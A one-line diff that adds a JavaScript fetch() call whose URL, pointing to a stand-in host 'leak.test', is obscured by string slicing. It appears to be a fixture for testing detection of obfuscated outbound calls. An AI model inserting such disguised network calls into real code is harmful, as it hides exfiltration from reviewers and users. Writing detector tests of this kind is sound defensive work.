@@ -1,0 +1,1 @@
+fetch("xxhttps://js-fold-slice.leak.test/".slice(2))
